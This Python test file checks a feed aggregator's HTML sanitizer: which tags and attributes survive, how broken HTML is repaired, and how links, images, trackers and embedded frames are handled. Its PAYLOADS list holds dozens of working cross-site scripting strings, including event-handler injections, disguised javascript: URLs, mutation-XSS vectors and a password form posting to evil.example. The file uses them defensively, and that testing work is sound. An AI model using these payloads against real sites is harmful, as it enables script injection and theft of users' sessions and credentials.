"""HTML from feeds: what survives, and that nothing unsafe does."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from urllib.parse import urlsplit
from xml.etree.ElementTree import Element

import pytest
from bleach._vendor.html5lib import HTMLParser as BrowserParser
from hypothesis import HealthCheck, given
from hypothesis import strategies as st

from aggregator.ingest.anchors import prefix_of
from aggregator.ingest.left_out import SWALLOWED
from aggregator.ingest.sanitize import sanitize
from aggregator.ingest.tags import EVERYWHERE, TAGS
from tests.examples import examples

BASE_URL = "https://blog.example/posts/1"
PREFIX = prefix_of("https://blog.example/feed", "1")
LINK = 'rel="noopener nofollow ugc"'
IMAGE = 'loading="lazy" referrerpolicy="no-referrer" decoding="async"'


def clean(html: str) -> str:
    return sanitize(html, BASE_URL).html


class Checker(HTMLParser):
    """A second reader that knows nothing of ours: collects all that the allow-list doesn't hold."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.wrong: list[str] = []
        self.open: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS:
            self.wrong.append(f"<{tag}>")
            return
        self.wrong += [f"{tag}@{name}" for name, _ in attrs if name not in TAGS[tag] | EVERYWHERE]
        found = {name: value or "" for name, value in attrs}
        addresses = [found[name] for name in ("href", "src") if name in found]
        addresses += [candidate.split()[0] for candidate in found.get("srcset", "").split(", ") if candidate]
        self.wrong += [address for address in addresses if not self.is_safe(address, tag)]
        self.wrong += [found["id"] for name in ("id",) if not found.get(name, PREFIX).startswith(PREFIX)]
        if tag not in {"br", "hr", "img", "wbr"}:
            self.open.append(tag)

    @staticmethod
    def is_safe(address: str, tag: str) -> bool:
        if tag == "a" and address.startswith(f"#{PREFIX}"):
            return True
        parts = urlsplit(address)
        return (parts.scheme in ("http", "https") and bool(parts.netloc)) or (tag == "a" and parts.scheme == "mailto")

    def handle_endtag(self, tag: str) -> None:
        if not self.open or self.open.pop() != tag:
            self.wrong.append(f"</{tag}>")

    def handle_comment(self, data: str) -> None:
        self.wrong.append("comment")

    def handle_decl(self, decl: str) -> None:
        self.wrong.append("declaration")

    def handle_pi(self, data: str) -> None:
        self.wrong.append("instruction")

    def unknown_decl(self, data: str) -> None:
        self.wrong.append("section")


class Written(HTMLParser):
    """What stands in balanced HTML, tag by tag."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[object] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, {name: value or "" for name, value in attrs}))
        if tag in {"br", "hr", "img", "wbr"}:
            self.found.append(f"/{tag}")

    def handle_endtag(self, tag: str) -> None:
        self.found.append(f"/{tag}")

    def handle_data(self, data: str) -> None:
        self.found.append(data)


def as_written(html: str) -> list[object]:
    reader = Written()
    reader.feed(html)
    reader.close()
    return reader.found


def as_browsers_read(element: Element) -> list[object]:
    """What stands inside of an element of a tree; anything that is no HTML keeps its namespace in its name."""
    found: list[object] = [element.text] if element.text else []
    for child in element:
        name = str(child.tag).removeprefix("{http://www.w3.org/1999/xhtml}")
        found += [(name, dict(child.attrib)), *as_browsers_read(child), f"/{name}"]
        if child.tail:
            found.append(child.tail)
    return found


def faults(html: str) -> list[str]:
    checker = Checker()
    checker.feed(html)
    checker.close()
    return checker.wrong + checker.open


PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert(1)",
    "<script/>alert(1)</script>",
    "<script><!--<script></script>--></script>alert(1)",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\x0c=alert(1)>",
    "<img/src=x/onerror=alert(1)//",
    "<img \x00src=x onerror=alert(1)>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<img src='javascript:alert(1)'>",
    "<img srcset='javascript:alert(1) 1x, data:image/svg+xml,x 2x'>",
    "<img src=data:image/svg+xml;base64,PHN2Zz4= alt=x>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><a xlink:href=javascript:alert(1)><text x=20 y=20>go</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<title><img title='</title><img src=x onerror=alert(1)>'></title>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<noembed><p title='</noembed><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<select><template><style><!--</style><a rel='--></style></template></select><img id=x src onerror=alert(1)>'>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='java&Tab;script&colon;alert(1)'>x</a>",
    "<a href='&#x6A&#x61;vascript&#58;alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='\u200bjavascript:alert(1)'>x</a>",
    "<a href='javascript:1'>x</a>",
    "<a href='x:1'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='blob:https://blog.example/1'>x</a>",
    "<a href='view-source:https://blog.example/'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='mailto:javascript:alert(1)'>x</a>",
    "<a href='https://ok.example/' onclick=alert(1) ping=//evil.example target=_top download>x</a>",
    "<a href='https://ok.example/\"onmouseover=alert(1) x=\"'>x</a>",
    '<a href="https://ok.example/\'><script>alert(1)</script>">x</a>',
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    "<p style='position:fixed;inset:0;background:url(//evil.example/)'>x</p>",
    "<form action=//evil.example><input name=password><button>go</button></form>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src='https://www.youtube.com.evil.example/embed/abcdefgh'></iframe>",
    "<object data=javascript:alert(1)><p>x</p></object>",
    "<embed src=javascript:alert(1)>",
    "<video src=x onerror=alert(1)><source onerror=alert(1)></video>",
    "<audio src=x autoplay onplay=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>",
    "<frameset onload=alert(1)>",
    "<table background=javascript:alert(1)><td background=javascript:alert(1)>",
    "<div id=location name=cookie class=site-header>x</div>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<!-- --!><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<!DOCTYPE html><script>alert(1)</script>",
    "<<script>alert(1);//<</script>",
    "</p></main></body></html><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\U0010fffcscript\U0010fffdalert(1)\U0010fffc/script\U0010fffd",
    "&#x10fffc;script&#x10fffd;alert(1)",
    '<p lang="en&quot; onclick=&quot;alert(1)">x</p>',
    "<a href=https://ok.example/ lang='x\" onclick=alert(1)'>x</a>",
    "<code class='language-x\" onclick=\"alert(1)'>x</code>",
    "<td colspan='9\" onclick=\"alert(1)'>x</td>",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_but_the_allow_list_comes_out(payload: str) -> None:
    assert faults(clean(f"before {payload} after")) == []


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_second_cleaning_of_a_payload_changes_nothing(payload: str) -> None:
    once = sanitize(f"<p>{payload}</p><ul><li>{payload}", BASE_URL)
    assert sanitize(once.html, BASE_URL) == once


def test_the_checker_sees_what_is_wrong() -> None:
    assert faults("<p onclick=x><script>1</script><a href='javascript:1'>x</a><!-- x --><b>") != []
    assert faults('<p><a href="https://example.org/">x</a></p>') == []


@pytest.mark.parametrize("name", sorted(SWALLOWED - {"plaintext"}))
def test_an_unwanted_element_goes_with_its_content(name: str) -> None:
    assert clean(f"<p>one</p><{name} a=b>hidden <i>text</i></{name}><p>two</p>") == "<p>one</p><p>two</p>"


@pytest.mark.parametrize("name", ["datalist", "iframe", "textarea", "svg", "title", "object", "select", "noscript"])
def test_an_unclosed_element_swallows_nothing(name: str) -> None:
    assert clean(f"<p>one</p><{name}><p>two</p>") == "<p>one</p><p>two</p>"


@pytest.mark.parametrize("name", ["script", "style"])
def test_code_is_not_shown_even_when_it_is_cut_off(name: str) -> None:
    assert clean(f"<p>one</p><{name}>alert(1)") == "<p>one</p>"


def test_elements_inside_each_other_go_together() -> None:
    assert clean("a<svg><svg>x</svg>y</svg>b<select><select/>x</select>c") == "abc"


def test_an_unknown_element_leaves_its_content() -> None:
    assert clean("<blink>one <font color=red>two</font></blink>") == "one two"


KEPT = [
    "<h1>one</h1><h2>two</h2><h6>six</h6>",
    "<p>a <b>b</b> <strong>s</strong> <i>i</i> <em>e</em> <u>u</u> <s>s</s> <del>d</del> <ins>i</ins></p>",
    "<p><mark>m</mark> <small>s</small> x<sub>1</sub> x<sup>2</sup> <kbd>k</kbd> <q>q</q> <cite>c</cite></p>",
    "<ul><li>a</li><li>b<ol><li>c</li></ol></li></ul>",
    '<ol start="3"><li>c</li></ol>',
    "<dl><dt>t</dt><dd>d</dd></dl>",
    '<table><caption>c</caption><thead><tr><th scope="col">h</th></tr></thead><tbody></tbody></table>',
    '<table><tbody><tr><td colspan="3" rowspan="2">x</td></tr></tbody></table>',
    "<blockquote><p>q</p></blockquote><hr>",
    "<figure><figcaption>c</figcaption></figure>x",
    '<pre><code class="language-python">if a &lt; b and c &amp;&amp; d:\n    print("x")\n</code></pre>',
    "<details><summary>more</summary><p>x</p></details>",
    "<ruby>漢<rp>(</rp><rt>kan</rt><rp>)</rp></ruby>",
    "<ruby><rb>漢</rb><rb>字</rb><rt>kan</rt><rt>ji</rt></ruby>",
    '<abbr title="World Wide Web">WWW</abbr>',
    '<p lang="he" dir="rtl">שלום <bdi>x</bdi> עולם</p>',
    '<p><span lang="de">Straße</span> 👩\u200d💻🎉</p>',
    "one<br>two<wbr>three",
    "<div>a</div><div>b</div>",
    f'<a {LINK} href="https://example.org/?a=1&amp;b=2#c">x</a>',
    f'<a {LINK} href="mailto:jane@example.org">x</a>',
    f'<img {IMAGE} src="https://e.org/a.png" srcset="https://e.org/b.png 2x" alt="&gt; &quot;" width="20" height="1">',
]


@pytest.mark.parametrize("html", KEPT)
def test_what_authors_write_stays_as_it_is(html: str) -> None:
    assert clean(html) == html


@pytest.mark.parametrize(
    ("torn", "whole"),
    [
        ("<p>one<p>two", "<p>one</p><p>two</p>"),
        ("<ul><li>a<li>b<ul><li>c</ul><li>d", "<ul><li>a</li><li>b<ul><li>c</li></ul></li><li>d</li></ul>"),
        ("<dl><dt>a<dd>b<dt>c</dl>", "<dl><dt>a</dt><dd>b</dd><dt>c</dt></dl>"),
        ("<b>bold <i>both</b> italic</i>", "<b>bold <i>both</i></b><i> italic</i>"),
        ("<p><b>bold</p><p>not</p>", "<p><b>bold</b></p><p>not</p>"),
        ("<h2>a</h3><p>b", "<h2>a</h2><p>b</p>"),
        ("<p>a<ul><li>b</ul>c</p>", "<p>a</p><ul><li>b</li></ul>c"),
        ("a</div></article></main></body>b", "ab"),
        ("<article><section>a</section></article>", "<div><div>a</div></div>"),
        ("a <!-- b <b>c</b>", "a c"),
        ("a<!-- b --!>c<!-- d -->e", "ace"),
        ("a<!--!>b-->c<!---!>d-->e<!--->f<!-->g", "acefg"),
        ("a<b", "a"),
        ("1 < 2 & 3 > 2", "1 &lt; 2 &amp; 3 &gt; 2"),
        ("1 <2&lt<b>3</b><!-- 4 -->5<i x='>6</i>", "1 &lt;2&lt;<b>3</b>5<i>6</i>"),
        ("<td>x</td>", "x"),
        ("<table>x<tr><td>y", "<table><tbody><tr><td>x</td></tr><tr><td>y</td></tr></tbody></table>"),
        ("<table><td>x</tr><td>y", "<table><tbody><tr><td>x</td></tr><tr><td>y</td></tr></tbody></table>"),
        ("<b><table><tr><td></b>x", "<b><table><tbody><tr><td>x</td></tr></tbody></table></b>"),
        ("<p/>x<br/>y", "<p></p>x<br>y"),
        ("<ruby><rb>a<rb>b<rt>c<rb>d</ruby>", "<ruby><rb>a</rb><rb>b</rb><rt>c</rt><rb>d</rb></ruby>"),
        ("<pre>\n\ncode</pre>", "<pre>code</pre>"),
        ("a\r\nb&#0;&#8;\x00c", "a\nb\ufffdc"),
    ],
)
def test_torn_html_is_mended(torn: str, whole: str) -> None:
    assert clean(torn) == whole


@pytest.mark.parametrize(
    ("written", "href"),
    [
        ("/admin/logout/", "https://blog.example/admin/logout/"),
        ("2", "https://blog.example/posts/2"),
        ("//cdn.example/x", "https://cdn.example/x"),
        ("https://e.org/?utm_source=x&amp;a=1&amp;fbclid=y", "https://e.org/?a=1"),
        ("https://user:secret@e.org/", "https://e.org/"),
        ("HTTPS://E.org", "https://e.org/"),
    ],
)
def test_a_link_is_absolute_and_clean(written: str, href: str) -> None:
    assert clean(f'<a href="{written}" title=t target=_blank rel=author>x</a>') == f'<a {LINK} href="{href}">x</a>'


@pytest.mark.parametrize(
    ("written", "query"),
    [
        ("a=1&region=2&timestamp=3&copy=4", "a=1&amp;region=2&amp;timestamp=3&amp;copy=4"),
        ("a=1&notit;=2&amp=3", "a=1&amp;notit;=2&amp;amp=3"),
        ("a=1&amp;region=2&#38;b=3&ampc=4", "a=1&amp;region=2&amp;b=3&amp;ampc=4"),
        ("a=&eacute;&eacute", "a=%C3%A9%C3%A9"),
    ],
)
def test_a_parameter_that_begins_like_a_character_keeps_its_name(written: str, query: str) -> None:
    """As in browsers: in an attribute only a semicolon, or the end of the word, makes a name a character."""
    assert clean(f'<a href="https://e.org/?{written}">x</a>') == f'<a {LINK} href="https://e.org/?{query}">x</a>'


def test_in_a_text_an_old_name_is_a_character_without_its_semicolon() -> None:
    assert clean("&copy2026 AT&ampT") == "©2026 AT&amp;T"


@pytest.mark.parametrize("href", ["#", "", " ", "ftp://e.org/", "https://"])
def test_a_link_that_leads_nowhere_becomes_text(href: str) -> None:
    assert clean(f'one <a href="{href}">two</a>') == "one two"


def test_without_a_base_a_relative_link_becomes_text() -> None:
    assert sanitize("<a href=/x>one</a><img src=y>", "").html == "one"


@pytest.mark.parametrize(
    "image",
    [
        "<img>",
        "<img src=''>",
        "<img src=data:image/gif;base64,R0lGODlhAQABAAAAACw=>",
        "<img src=cid:1>",
        "<img src=https://e.org/p.gif width=1 height=1>",
        "<img src=https://e.org/p.gif height=0>",
        "<img src=https://e.org/p.gif width=1px>",
        "<img src=https://e.org/p.gif style='display: none'>",
        "<img src=https://e.org/p.gif style='width:1px;height:1px'>",
        "<img src=https://pixel.wp.com/b.gif?x=1>",
        "<img src=https://stats.wordpress.com/b.gif>",
        "<img src=https://feeds.feedburner.com/~r/blog/~4/x>",
        "<img src=//www.google-analytics.com/collect>",
        "<img src=https://medium.com/_/stat?event=post>",
    ],
)
def test_an_image_that_shows_nothing_or_counts_readers_goes(image: str) -> None:
    assert clean(f"text {image}") == "text "


@pytest.mark.parametrize("name", ["data-src", "data-lazy-src"])
def test_a_video_that_its_own_page_loads_by_script_becomes_a_link(name: str) -> None:
    html = clean(f'<iframe src="about:blank" {name}="https://www.youtube.com/embed/abcdefghijk" title="Talk"></iframe>')
    assert html == f'<a {LINK} href="https://www.youtube.com/watch?v=abcdefghijk">Video: Talk</a>'


PLACEHOLDER = "data:image/gif;base64,R0lGODlhAQABAAAAACw="


@pytest.mark.parametrize(
    "attributes",
    [
        f'src="{PLACEHOLDER}" data-src="/cat.png"',
        f'src="{PLACEHOLDER}" data-lazy-src="/cat.png"',
        f'src="{PLACEHOLDER}" data-original="/cat.png"',
        'src="/spinner.gif" data-src="/cat.png"',
        'src="/cat.png" data-original="/cat-large.png"',
        f'src="/cat.png" data-src="{PLACEHOLDER}"',
        'data-src="/cat.png"',
    ],
)
def test_an_image_that_its_own_page_loads_by_script_is_shown(attributes: str) -> None:
    assert clean(f"<img {attributes}>") == f'<img {IMAGE} src="https://blog.example/cat.png" alt="">'


def test_so_are_its_sizes() -> None:
    html = f'<img src="/cat.png" srcset="{PLACEHOLDER} 1w" data-srcset="/cat.png 1x, /cat2.png 2x">'
    assert 'srcset="https://blog.example/cat.png 1x, https://blog.example/cat2.png 2x"' in clean(html)


@pytest.mark.parametrize("name", ["data-src", "data-lazy-src", "data-original"])
def test_no_script_and_no_tracker_comes_in_where_scripts_would_look(name: str) -> None:
    assert clean(f'<img {name}="javascript:alert(1)">') == ""
    assert clean(f'<img {name}="https://pixel.wp.com/b.gif">') == ""


def test_an_image_takes_its_first_candidate_for_want_of_a_source() -> None:
    assert 'src="https://blog.example/b.png"' in clean("<img src=data:, srcset='/b.png 2x, /c.png 3x'>")


def test_bad_candidates_of_a_source_set_go_and_good_ones_stay() -> None:
    html = clean("<img src=/a.png srcset='x:1 1x, /w_300,h_2/b.png 300w, /c.png 2q,, /d.png, /e.png 1.5x'>")
    assert re.findall(r'srcset="([^"]*)"', html) == [
        "https://blog.example/w_300,h_2/b.png 300w, https://blog.example/d.png, https://blog.example/e.png 1.5x"
    ]


def test_no_candidate_of_a_source_set_ends_with_a_comma_and_none_is_relative() -> None:
    """Browsers take a comma at the end of an address off, and what follows for the next one."""
    html = clean("<img src=/a.png srcset='/b.png,&#8203; 2x, /c.png,&#xfeff;, /d.png 3x'>")
    assert re.findall(r'srcset="([^"]*)"', html) == ["https://blog.example/d.png 3x"]


@pytest.mark.parametrize("size", ["100%", "auto", "-1", "1e3", "99999", "٣"])
def test_an_odd_size_is_dropped(size: str) -> None:
    assert clean(f"<img src=/a.png width='{size}'>") == f'<img {IMAGE} src="https://blog.example/a.png" alt="">'


@pytest.mark.parametrize("name", ["x", "language-", "language-<x>", "site-header", "language-" + "a" * 31])
def test_a_class_that_names_no_language_goes(name: str) -> None:
    assert clean(f"<code class='hljs {name}'>x</code>") == "<code>x</code>"


def test_the_language_is_found_among_other_classes() -> None:
    assert clean("<code class='hljs language-c++ dark'>x</code>") == '<code class="language-c++">x</code>'


def test_spans_of_a_table_are_capped() -> None:
    assert '<td colspan="100">' in clean("<table><tr><td colspan=100000 rowspan=0 width=9>x")


def test_ids_names_styles_and_classes_do_not_survive() -> None:
    assert clean("<div id=location name=cookie class=site-header style='position:fixed'>x</div>") == "<div>x</div>"


@pytest.mark.parametrize(
    ("frame", "link"),
    [
        (
            "<iframe src='//www.youtube-nocookie.com/embed/dQw4w9WgXcQ?rel=0' title='A &amp; B'></iframe>",
            f'<a {LINK} href="https://www.youtube.com/watch?v=dQw4w9WgXcQ">Video: A &amp; B</a>',
        ),
        (
            "<iframe src=https://www.youtube.com/embed/dQw4w9WgXcQ></iframe>",
            f'<a {LINK} href="https://www.youtube.com/watch?v=dQw4w9WgXcQ">Video: youtube.com</a>',
        ),
        (
            "<iframe src=https://player.vimeo.com/video/76979871 title='<b>x</b>'>hidden</iframe>",
            f'<a {LINK} href="https://vimeo.com/76979871">Video: &lt;b&gt;x&lt;/b&gt;</a>',
        ),
        (
            "<iframe src=https://maps.example/embed/dQw4w9WgXcQ></iframe>",
            f'<a {LINK} href="https://maps.example/embed/dQw4w9WgXcQ">Embedded: maps.example</a>',
        ),
        (
            "<iframe src=https://youtube.com.evil.example/embed/dQw4w9WgXcQ></iframe>",
            (
                f'<a {LINK} href="https://youtube.com.evil.example/embed/dQw4w9WgXcQ">'
                "Embedded: youtube.com.evil.example</a>"
            ),
        ),
    ],
)
def test_a_frame_becomes_a_link(frame: str, link: str) -> None:
    assert clean(f"<p>see {frame}</p>") == f"<p>see {link}</p>"


@pytest.mark.parametrize(
    "blank", ["", " \n", "<p>&nbsp;</p>", "<p><br></p>", "<script>x</script>", "<!-- x -->", "&#8203;"]
)
def test_what_shows_nothing_is_empty(blank: str) -> None:
    assert clean(blank) == ""


def test_an_image_alone_is_not_empty() -> None:
    assert clean("<p><img src=/a.png></p>") != ""


def test_the_excerpt_is_plain_text() -> None:
    html = "<h2>One</h2><p>two &amp;amp; <b>th</b>ree &lt;b&gt;</p><ul><li>four</ul><script>five</script>"
    assert sanitize(html, BASE_URL).excerpt == "One two &amp; three <b> four"


def test_a_long_excerpt_ends_with_a_whole_word() -> None:
    excerpt = sanitize("<p>" + "word " * 200, BASE_URL).excerpt
    assert len(excerpt) <= 300
    assert excerpt.endswith("word…")


NAMES = sorted(
    {
        *TAGS,
        *SWALLOWED,
        *("font", "section", "foo", "image", "nobr", "option", "body", "math", "msup", "mn", "noscript", "picture"),
        *("object", "video", "audio", "source", "embed", "xmp", "mjx-container"),
    }
)
TEXTS = [
    "x",
    " ",
    "\n\n",
    "&amp;",
    "&lt;b&gt;",
    "<",
    "&",
    "&#13;",
    "\x00",
    "<!--",
    "-->",
    "</",
    '"',
    "'",
    ">",
    "é",
    "👩\u200d💻",
    "&nbsp;",
]
ATTRIBUTES = [
    "",
    " href=x",
    ' href="x',
    " src=y",
    " class=language-c",
    " lang=de",
    " dir=rtl",
    " alt='>'",
    " title='&lt;\"'",
    " /",
    " srcset='a 1x, b'",
    " hidden",
    " style='display:none'",
    " id=x href=#x",
    " id=y data-src=z.png",
    " href=#y name=x class=anchor",
    " aria-hidden=true",
    " class='sr-only katex'",
    " type=math/tex",
    " data=x.pdf alt=:) class=emoji",
]
PIECES = st.one_of(
    st.sampled_from(TEXTS),
    st.builds("<{}{}>".format, st.sampled_from(NAMES), st.sampled_from(ATTRIBUTES)),
    st.builds("</{}>".format, st.sampled_from(NAMES)),
    st.text(max_size=5),
)


@examples(300, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(PIECES, max_size=20).map("".join))
def test_any_html_becomes_safe_and_a_second_cleaning_changes_nothing(html: str) -> None:
    once = sanitize(html, BASE_URL, PREFIX)
    assert faults(once.html) == []
    assert sanitize(once.html, BASE_URL, PREFIX) == once


def test_what_only_looks_like_a_link_or_an_image_stays_as_it_is() -> None:
    html = f'<p>&lt;a b&gt; &lt;img c&gt; <img {IMAGE} src="https://e.org/a.png" alt="&lt;a &lt;img d"></p>'
    assert clean(html) == html


@examples(300, suppress_health_check=[HealthCheck.too_slow])
@given(st.one_of(st.lists(PIECES, max_size=20).map("".join), st.sampled_from(PAYLOADS)))
def test_every_link_and_every_image_in_any_html_has_what_they_all_have(html: str) -> None:
    for tag in re.findall(r"<(?:a|img)\b[^>]*", clean(html)):
        assert tag.startswith((f"<a {LINK} href=", f"<img {IMAGE} src="))
        assert tag.count(" rel=") + tag.count(" loading=") == 1


@examples(300, suppress_health_check=[HealthCheck.too_slow])
@given(st.one_of(st.lists(PIECES, max_size=20).map("".join), st.sampled_from(PAYLOADS)))
def test_any_html_stays_in_its_place_when_a_browser_reads_it(html: str) -> None:
    """What stands there after reading is what was written, in its own element, and what follows is untouched."""
    written = clean(html)
    page = f"<!doctype html><main><article><div>{written}</div><p>after</p></article></main><footer>end</footer>"
    html_tree = BrowserParser(namespaceHTMLElements=False).parse(page)
    main, footer = html_tree.find("body")
    [article] = main
    prose, after = article
    assert as_browsers_read(prose) == as_written(written)
    assert (after.text, footer.text, len(after), len(footer)) == ("after", "end", 0, 0)
